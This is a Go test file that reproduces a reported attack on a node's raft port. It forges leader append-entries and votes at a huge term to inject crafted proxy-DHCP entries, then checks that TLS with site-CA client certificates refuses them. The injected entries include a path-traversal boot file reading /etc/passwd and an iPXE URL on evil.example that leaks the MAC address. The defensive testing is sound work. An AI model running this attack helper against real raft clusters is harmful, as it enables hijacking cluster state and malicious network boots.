package lease

import (
	"crypto/tls"
	"crypto/x509"
	"github.com/siteboot/siteboot/internal/logbuf"
	"io"
	"log/slog"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/hashicorp/raft"
	dto "github.com/prometheus/client_model/go"
	sitev1 "github.com/siteboot/siteboot/gen/bettercompute/site/v1"
	statev1 "github.com/siteboot/siteboot/gen/siteboot/state/v1"
	"google.golang.org/protobuf/proto"
	"google.golang.org/protobuf/types/known/timestamppb"
)

func bufferLog(buf *logbuf.Buffer) *slog.Logger { return slog.New(slog.NewTextHandler(buf, nil)) }

// plainRaftTool is the "few-line tool" of the report: raft's own TCP
// transport, as anyone can build it, pointed at someone's raft port.
func plainRaftTool(t *testing.T) raft.Transport {
	t.Helper()
	tr, err := raft.NewTCPTransport("127.0.0.1:0", nil, 1, 2*time.Second, io.Discard)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = tr.Close() })
	return tr
}

// tlsRaftTool is the same tool over TLS with a client certificate of its
// choosing (none when cert is nil). It trusts any server, so only the
// server side can refuse it.
func tlsRaftTool(t *testing.T, cert *tls.Certificate) raft.Transport {
	t.Helper()
	conf := &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS13}
	if cert != nil {
		conf.Certificates = []tls.Certificate{*cert}
	}
	d := &dialOnly{conf: conf, done: make(chan struct{})}
	tr := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{Stream: d, MaxPool: 1, Timeout: 2 * time.Second,
		Logger: newHclog(quietLog())})
	t.Cleanup(func() { _ = tr.Close() })
	return tr
}

// dialOnly is a raft.StreamLayer that only dials, over TLS.
type dialOnly struct {
	conf *tls.Config
	done chan struct{}
	once sync.Once
}

func (d *dialOnly) Dial(a raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
	return tls.DialWithDialer(&net.Dialer{Timeout: timeout}, "tcp", string(a), d.conf)
}
func (d *dialOnly) Accept() (net.Conn, error) { <-d.done; return nil, net.ErrClosed }
func (d *dialOnly) Close() error              { d.once.Do(func() { close(d.done) }); return nil }
func (d *dialOnly) Addr() net.Addr            { return &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)} }

const hugeTerm = 1 << 60

// evilCommand is a log entry putting entries for node, the way the report's
// tool did.
func evilCommand(t *testing.T, node string, entries ...*sitev1.ProxyDhcpEntry) []byte {
	t.Helper()
	cmd, err := proto.Marshal(&statev1.SiteCommand{At: timestamppb.Now(),
		Op: &statev1.SiteCommand_PutEntries{PutEntries: &statev1.PutEntries{NodeId: node, Entries: entries}}})
	if err != nil {
		t.Fatal(err)
	}
	data, err := proto.Marshal(&statev1.LogEntry{Kind: &statev1.LogEntry_SiteCommand{SiteCommand: cmd}})
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func evilEntry(mac string, mod func(*sitev1.ProxyDhcpEntry)) *sitev1.ProxyDhcpEntry {
	e := &sitev1.ProxyDhcpEntry{Mac: mac, NotAfter: timestamppb.New(time.Now().Add(time.Hour))}
	mod(e)
	return e
}

// attack speaks raft to target as a leader of a huge term: it learns the
// log's end, appends and commits each of logs there, then asks for votes in
// a still larger term. It returns each RPC's error.
func attack(tool raft.Transport, target raft.ServerAddress, logs ...[]byte) []error {
	// The node's own id and address: raft refuses votes from strangers.
	hdr := raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte("appliance-1"), Addr: []byte(target)}
	var errs []error
	var probe raft.AppendEntriesResponse
	errs = append(errs, tool.AppendEntries("appliance-1", target,
		&raft.AppendEntriesRequest{RPCHeader: hdr, Term: hugeTerm, PrevLogEntry: 1 << 62}, &probe))
	next := probe.LastLog + 1
	for _, data := range logs {
		var resp raft.AppendEntriesResponse
		errs = append(errs, tool.AppendEntries("appliance-1", target, &raft.AppendEntriesRequest{
			RPCHeader: hdr, Term: hugeTerm, LeaderCommitIndex: next,
			Entries: []*raft.Log{{Index: next, Term: hugeTerm, Type: raft.LogCommand, Data: data}},
		}, &resp))
		next++
	}
	var vote raft.RequestVoteResponse
	errs = append(errs, tool.RequestVote("appliance-1", target, &raft.RequestVoteRequest{
		RPCHeader: hdr, Term: hugeTerm + 1, LastLogIndex: 1 << 62, LastLogTerm: hugeTerm + 1,
	}, &vote))
	return errs
}

func refusedCount(n *Node, reason string) float64 {
	var m dto.Metric
	if err := n.refusals.counter.WithLabelValues(reason).Write(&m); err != nil {
		panic(err)
	}
	return m.GetCounter().GetValue()
}

// TestPlainLoopbackRaftIsOpen shows what the attack tool does where plain
// TCP raft is allowed (loopback, for tests): it takes the node's raft over.
// The state machine still skips what breaks the entry rules. This is the
// control for the TLS tests below: the tool works.
func TestPlainLoopbackRaftIsOpen(t *testing.T) {
	var logs logbuf.Buffer
	h := startConfig(t, Config{Dir: t.TempDir(), Bind: "127.0.0.1:0", Logger: bufferLog(&logs)})
	defer h.close()
	if !strings.Contains(logs.String(), "plain TCP on loopback; that is for tests only") {
		t.Fatalf("no warning about plain TCP raft:\n%s", logs.String())
	}
	errs := attack(plainRaftTool(t), h.node.trans.LocalAddr(),
		evilCommand(t, "intruder",
			evilEntry("52:54:00:66:66:01", func(*sitev1.ProxyDhcpEntry) {}),
			evilEntry("52:54:00:66:66:02", func(e *sitev1.ProxyDhcpEntry) { e.BootFile = "../../../etc/passwd" })),
		evilCommand(t, "evil node!", evilEntry("52:54:00:66:66:03", func(*sitev1.ProxyDhcpEntry) {})))
	for i, err := range errs {
		if err != nil {
			t.Fatalf("rpc %d against a plain raft port: %v", i, err)
		}
	}
	waitFor(t, func() bool { return len(listed(h.state)) > 0 })
	if diff := cmp.Diff([]string{"intruder/52:54:00:66:66:01"}, listed(h.state)); diff != "" {
		t.Fatalf("state after the attack (-want +got):\n%s", diff)
	}
}

// TestRaftPortRefusesPlainPeer is the report's attack against a node with
// raft TLS configured: every RPC fails, nothing is applied, and the gate
// stays open under the same epoch and term.
func TestRaftPortRefusesPlainPeer(t *testing.T) {
	ca := newTestCA(t, "site ca")
	var logs logbuf.Buffer
	h := startConfig(t, Config{Dir: t.TempDir(), Bind: "127.0.0.1:0", TLS: ca.files(t, "appliance-1", leafOpts{}), Logger: bufferLog(&logs)})
	defer h.close()
	epoch, _ := h.node.Gate()
	term, applied := h.node.raft.CurrentTerm(), h.node.AppliedIndex()

	errs := attack(plainRaftTool(t), h.node.trans.LocalAddr(), evilCommand(t, "evil node!",
		evilEntry("52:54:00:66:66:01", func(e *sitev1.ProxyDhcpEntry) {
			e.BootFile = "../../../etc/passwd"
			e.IpxeScriptUrl = "http://evil.example/chain.ipxe?mac=${net0/mac}"
		})))
	for i, err := range errs {
		if err == nil {
			t.Errorf("rpc %d of a plain peer succeeded", i)
		}
	}
	expectUntouched(t, h, epoch, term, applied)
	if got := refusedCount(h.node, reasonNotTLS); got != float64(len(errs)) {
		t.Errorf("refused not_tls = %v; want %d (one per connection)", got, len(errs))
	}
	var lines []string
	for _, l := range strings.Split(logs.String(), "\n") {
		if strings.Contains(l, "peer refused") {
			lines = append(lines, l)
		}
	}
	if len(lines) != 1 || !strings.Contains(lines[0], "reason=not_tls") || !strings.Contains(lines[0], "remote=127.0.0.1:") {
		t.Fatalf("refusal log lines = %q; want one (rate-limited) naming the remote and reason not_tls", lines)
	}
}

// TestRaftPortRefusesUncertifiedTLSPeers: TLS alone is not enough; the
// client certificate must be the site CA's, valid, and for client auth.
func TestRaftPortRefusesUncertifiedTLSPeers(t *testing.T) {
	ca := newTestCA(t, "site ca")
	h := startConfig(t, Config{Dir: t.TempDir(), Bind: "127.0.0.1:0", TLS: ca.files(t, "appliance-1", leafOpts{})})
	defer h.close()
	epoch, _ := h.node.Gate()
	term, applied := h.node.raft.CurrentTerm(), h.node.AppliedIndex()

	foreign := newTestCA(t, "another ca").keyPair(t, "appliance-1", leafOpts{})
	expired := ca.keyPair(t, "appliance-1", leafOpts{expired: true})
	serverOnly := ca.keyPair(t, "appliance-1", leafOpts{usages: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}})
	tests := []struct {
		name   string
		cert   *tls.Certificate
		reason string
	}{
		{"no certificate", nil, reasonNoCertificate},
		{"another CA", &foreign, reasonUnknownAuthority},
		{"expired", &expired, reasonBadCertificate},
		{"server auth only", &serverOnly, reasonBadCertificate},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := refusedCount(h.node, tt.reason)
			errs := attack(tlsRaftTool(t, tt.cert), h.node.trans.LocalAddr(),
				evilCommand(t, "intruder", evilEntry("52:54:00:66:66:01", func(*sitev1.ProxyDhcpEntry) {})))
			for i, err := range errs {
				if err == nil {
					t.Errorf("rpc %d succeeded", i)
				}
			}
			// The server counts after it sent its alert: wait for it.
			want := before + float64(len(errs))
			waitFor(t, func() bool { return refusedCount(h.node, tt.reason) >= want })
			if got := refusedCount(h.node, tt.reason); got != want {
				t.Errorf("refused %s = %v; want %v", tt.reason, got, want)
			}
		})
	}
	expectUntouched(t, h, epoch, term, applied)
}

// expectUntouched watches the node for a while: no entry, no newer term,
// nothing applied, and the gate open under the same epoch throughout.
func expectUntouched(t *testing.T, h *harness, epoch, term, applied uint64) {
	t.Helper()
	for end := time.Now().Add(500 * time.Millisecond); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if e, open := h.node.Gate(); !open || e != epoch {
			t.Fatalf("gate = %d, %t; want %d, open", e, open, epoch)
		}
	}
	if got := h.node.raft.CurrentTerm(); got != term {
		t.Errorf("term = %d; want %d", got, term)
	}
	if got := h.node.AppliedIndex(); got != applied {
		t.Errorf("applied index = %d; want %d", got, applied)
	}
	if got := listed(h.state); len(got) != 0 {
		t.Errorf("entries = %v; want none", got)
	}
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	for end := time.Now().Add(10 * time.Second); time.Now().Before(end); time.Sleep(10 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatal("condition not reached within 10s")
}
